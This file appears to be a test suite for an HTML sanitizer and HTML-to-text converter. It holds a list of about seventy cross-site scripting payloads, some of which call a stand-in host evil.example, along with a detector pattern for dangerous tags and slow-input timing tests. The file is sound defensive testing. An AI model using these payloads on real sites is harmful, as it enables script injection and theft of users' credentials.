// Tests src/forms/sanitize-html.ts and src/forms/html-to-text.ts.
import fc from 'fast-check';
import { Parser } from 'htmlparser2';
import { describe, expect, test } from 'vitest';
import { convertHtmlToText, isPlainMarkup } from '../../src/forms/html-to-text.js';
import { sanitizeHtml, stripTags } from '../../src/forms/sanitize-html.js';
import { leastCpuMs } from '../support/cpu-time.js';

describe('HTML without anything unsafe stays unchanged', () => {
  test.each([
    'a & b',
    'a &amp; b &nbsp; c',
    '1 < 2 > 0, I <3 you',
    'line\r\nline\ttab',
    '<p>Doors at 7 & music at 8</p>',
    '<P CLASS="big">Upper</P>',
    '<p class=lead>unquoted & fine</p>',
    "<p class='x'>single</p>",
    '<br><br/><br />',
    '<a href="https://example.org/?a=1&b=2#c" target="_blank" rel="noopener">link</a>',
    '<a href=https://example.org/path>link</a>',
    '<a href="mailto:a@example.org">mail</a> <a href="tel:+331">call</a> <a href="/local">here</a> <a href="//example.org/x">there</a>',
    '<img src="https://example.org/a.jpg" alt="A & B" width="10" height="20" loading="lazy">',
    '<!-- wp:paragraph {"align":"center"} -->\n<p style="text-align:center">Hi & bye</p>\n<!-- /wp:paragraph -->',
    '<!-- wp:image {"id":5,"sizeSlug":"large"} --><figure class="wp-block-image"><img src="https://x.org/a.png" alt=""/></figure><!-- /wp:image -->',
    '<ul><li>one<li>two</ul>',
    '<table><thead><tr><th scope="col">A</th></tr></thead><tbody><tr><td colspan="2">b</td></tr></tbody></table>',
    '<h2>Programme</h2><blockquote cite="https://example.org">q</blockquote><pre><code>x &lt; y</code></pre>',
    '<details open><summary>More</summary>text</details>',
    '<ruby>漢<rp>(</rp><rt>kan</rt><rp>)</rp></ruby> <span dir="rtl" lang="ar">مرحبا</span>',
    '<p>unclosed <b>bold',
    '',
  ])('%j', async (html) => expect(await sanitizeHtml(html)).toBe(html));
});

const ATTACKS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/x>alert(1)</script>',
  '<script\n>alert(1)</script\n>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)">',
  '<img/src="x"/onerror=alert(1)>',
  '<p onclick="alert(1)">x</p>',
  '<p ONCLICK = alert(1)>x</p>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="\x01javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="&#106;&#97;vascript:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href=javascript&colon;alert(1)>x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img srcset="javascript:alert(1) 1x">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math href="javascript:alert(1)">x</math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<style>body{background:url(javascript:alert(1))}</style>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<p style="background:url(https://evil.example/track)">x</p>',
  '<p style="width:expression(alert(1))">x</p>',
  '<p style="position:fixed;top:0;left:0">x</p>',
  '<p style="color:red;behavior:url(x.htc)">x</p>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="x.swf"></object><embed src="x.swf"><applet code=x>',
  '<form action="https://evil.example"><input name=password><button formaction=javascript:alert(1)>x</button></form>',
  '<textarea><script>alert(1)</script></textarea>',
  '<template><script>alert(1)</script></template>',
  '<xmp><script>alert(1)</script></xmp>',
  '<plaintext><script>alert(1)</script>',
  '<title><script>alert(1)</script></title>',
  '<!--><script>alert(1)</script>-->',
  '<!-- --!><script>alert(1)</script>-->',
  '<!--[if IE]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?php echo 1 ?><script>alert(1)</script>',
  '<!DOCTYPE html><script>alert(1)</script>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<img """><script>alert(1)</script>">',
  '<a href="x" <script>alert(1)</script>>x</a>',
  '<<script>alert(1)//<</script>',
  '<p title="><script>alert(1)</script>">x</p>',
  "<p title='\"><img src=x onerror=alert(1)>'>x</p>",
  '<custom-element onfocus=alert(1) tabindex=1 autofocus>x</custom-element>',
  '<p id="location">x</p>',
  '<video><source onerror="alert(1)"></video><audio src=x onerror=alert(1)>',
  '</p><script>alert(1)</script>',
  '<p>ok</p><script',
  '<p>ok</p><img src=x onerror=alert(1)',
];

/** Lists everything that a browser could run or load from a text, according to an independent parser. */
function dangersIn(html: string): string[] {
  const dangers: string[] = [];
  const parser = new Parser({
    onopentag: (name, attributes) => {
      if (
        /^(script|style|svg|math|iframe|object|embed|applet|link|meta|base|form|input|button|textarea|template|noscript|title|xmp|plaintext|body|video|audio|source|custom-element)$/.test(
          name,
        )
      )
        dangers.push(name);
      for (const [key, value] of Object.entries(attributes)) {
        if (/^on|^id$|^srcdoc$|^formaction$|^xlink/i.test(key)) dangers.push(key);
        if (/^(?:javascript|vbscript|data):/i.test(value.replace(/[\u0000-\u0020]/g, ''))) dangers.push(value);
        if (key === 'style' && /url|expression|position|behavior/i.test(value)) dangers.push(value);
      }
    },
    onprocessinginstruction: (name) => dangers.push(name),
  });
  parser.end(html);
  return dangers;
}

describe('unsafe markup', () => {
  test.each(ATTACKS)('is removed from %j', async (attack) => {
    const clean = await sanitizeHtml(`before ${attack}`);
    expect(dangersIn(clean)).toEqual([]);
    expect(clean).toMatch(/^before /);
    expect(await sanitizeHtml(clean)).toBe(clean);
  });

  test('is present in all but a few samples', () => {
    const harmless = ATTACKS.filter((attack) => dangersIn(attack).length === 0);
    expect(harmless.length).toBeLessThan(15);
  });

  test('is removed without the safe markup around it', async () => {
    expect(await sanitizeHtml('<p>Hello <b>you</b><script>alert(1)</script></p>')).toBe('<p>Hello <b>you</b></p>');
    expect(await sanitizeHtml('<p class="a" onclick="x()">Hi</p>')).toBe('<p class="a">Hi</p>');
    expect(await sanitizeHtml('<a href="javascript:x()">read</a>')).toBe('<a>read</a>');
    expect(await sanitizeHtml('<font color="red">red</font>')).toBe('red');
  });

  const piece = fc.constantFrom(
    '<',
    '>',
    '"',
    "'",
    '=',
    '/',
    ' ',
    '<!--',
    '-->',
    '--!>',
    '<script>',
    '</script>',
    '<p ',
    '<svg>',
    '<img src=',
    'onerror=',
    'x',
    '&lt;',
    '&',
    '`',
    '<b>',
    '</b>',
    '<style>',
    '</style>',
    'javascript:',
    '<a href="',
    '\n',
    '<noscript>',
    '<math>',
    '<![CDATA[',
  );
  const broken = fc.array(piece, { maxLength: 25 }).map((pieces) => pieces.join(''));

  test('is absent from any broken markup after cleaning, and cleaning again changes nothing', async () => {
    await fc.assert(
      fc.asyncProperty(broken, async (html) => {
        const clean = await sanitizeHtml(html);
        expect(dangersIn(clean)).toEqual([]);
        expect(await sanitizeHtml(clean)).toBe(clean);
      }),
      { numRuns: 1500 },
    );
  });

  test('leaves no tag in plain text', async () => {
    await fc.assert(
      fc.asyncProperty(broken, async (text) => {
        const plain = await stripTags(text);
        expect(plain).not.toMatch(/<[a-z/!?]/i);
        expect(await stripTags(plain)).toBe(plain);
      }),
      { numRuns: 1500 },
    );
  });
});

describe('plain text loses tags and outer spaces, and nothing else', () => {
  test.each([
    ['Rock & Roll', 'Rock & Roll'],
    ['a &amp; b', 'a &amp; b'],
    ['1 < 2 > 0', '1 < 2 > 0'],
    ['I <3 you', 'I <3 you'],
    ['"quoted" \'single\' `back`', '"quoted" \'single\' `back`'],
    ['  spaced\tout \n', '  spaced\tout \n'],
    ['<b>Bold</b> name', 'Bold name'],
    ['Rock & Roll <b>', 'Rock & Roll'],
    ['a<br>b', 'ab'],
    ['x<script>alert(1)</script>y', 'xy'],
    ['x<img src=x onerror=alert(1)>y', 'xy'],
    ['x<!-- comment -->y', 'xy'],
    ['<<b>script>alert(1)<</b>/script>', 'script>alert(1)/script>'],
    ['<i>a & b &lt;c&gt;</i>', 'a & b &lt;c&gt;'],
    ['Salt <Pepper & Co', 'Salt < Pepper & Co'],
    ['<b>tom</b><jerry@x.y', 'tom< jerry@x.y'],
  ])('%j becomes %j', async (text, plain) => expect(await stripTags(text)).toBe(plain));

  test.each<[string, string]>([
    ['a style of many blanks', `<p style="${'color: a '.repeat(5000)}!">x</p>`],
    ['a style of many properties', `<p style="${'color: red; '.repeat(5000)}!">x</p>`],
    ['signs that open nothing', '< '.repeat(100_000)],
    ['tags that are not closed', '<a '.repeat(100_000)],
  ])('%s is cleaned in little time', async (_, text) => {
    expect(await leastCpuMs(() => sanitizeHtml(text))).toBeLessThan(3000);
  });

  test('deeply nested characters are cleaned in little time', async () => {
    const clean = async () => {
      await stripTags(`${'<'.repeat(200_000)}${'b>'.repeat(200_000)}`);
      await sanitizeHtml(`<p ${' '.repeat(200_000)}<a ${'x '.repeat(100_000)}`);
    };
    expect(await leastCpuMs(clean)).toBeLessThan(3000);
  });
});

test.each([
  ['<a href="', '">x</a>', 2048],
  ['<img src="', '">', 2048],
  ['<blockquote cite="', '">x</blockquote>', 2048],
  ['<img srcset="', '">', 8192],
])('an attribute loses an address that is too long: %s', async (before, after, most) => {
  const htmlOf = (length: number) => `${before}${'https://x/'.padEnd(length, 'a')}${after}`;
  expect(await sanitizeHtml(htmlOf(most))).toBe(htmlOf(most));
  expect(await sanitizeHtml(htmlOf(most + 1))).not.toContain('https:');
});

describe('plain markup', () => {
  const { markup } = fc.letrec((tie) => ({
    markup: fc.array(tie('piece'), { maxLength: 4 }).map((pieces) => pieces.join('')),
    piece: fc.oneof(
      { maxDepth: 4 },
      fc.constantFrom('a', ' b  c ', '\n', '\u00a0', '\t.', '<br>', '<br />', '</p>', '<p>', '<b>', '</br>'),
      fc
        .tuple(fc.constantFrom('p', 'ul', 'ol', 'li', 'b', 'i', 'em', 'strong', 'h2', 'blockquote'), tie('markup'))
        .map(([name, inside]) => `<${name}>${inside}</${name}>`),
    ),
  }));
  // The sanitizer and the parser see all markup with an entity.
  const ENTITY = '&amp;';

  test('is kept and read as the sanitizer and the parser do', async () => {
    let seen = 0;
    await fc.assert(
      fc.asyncProperty(markup as fc.Arbitrary<string>, async (html) => {
        if (!html.includes('<') || !isPlainMarkup(html)) return;
        seen += 1;
        expect(await sanitizeHtml(`${ENTITY}${html}`)).toBe(`${ENTITY}${html}`);
        expect(await sanitizeHtml(html)).toBe(html);
        expect(`&${await convertHtmlToText(`.${html}`)}`).toBe(await convertHtmlToText(`${ENTITY}.${html}`));
      }),
      { numRuns: 2000 },
    );
    expect(seen).toBeGreaterThan(200);
  });

  test('separates the cells of a table', async () => {
    const rows = '<tr><th>Seat</th><th>Members</th></tr>\n<tr><td>Stalls</td>\n<td>£10</td></tr>';
    expect(await convertHtmlToText(`<table>${rows}</table>`)).toBe('Seat | Members\nStalls | £10');
  });

  test.each([
    '<p class="a">x</p>',
    '<p>x',
    '<p>a<p>b</p></p>',
    '<b><p>a</p></b>',
    '<p>a &amp; b</p>',
    '<P>a</P>',
    '<div>a</div>',
    '<b>a</i></b>',
    'a > b',
    `${'<ul><li>'.repeat(9)}${'</li></ul>'.repeat(9)}`,
  ])('%j is left to the sanitizer', (html) => expect(isPlainMarkup(html)).toBe(false));
});
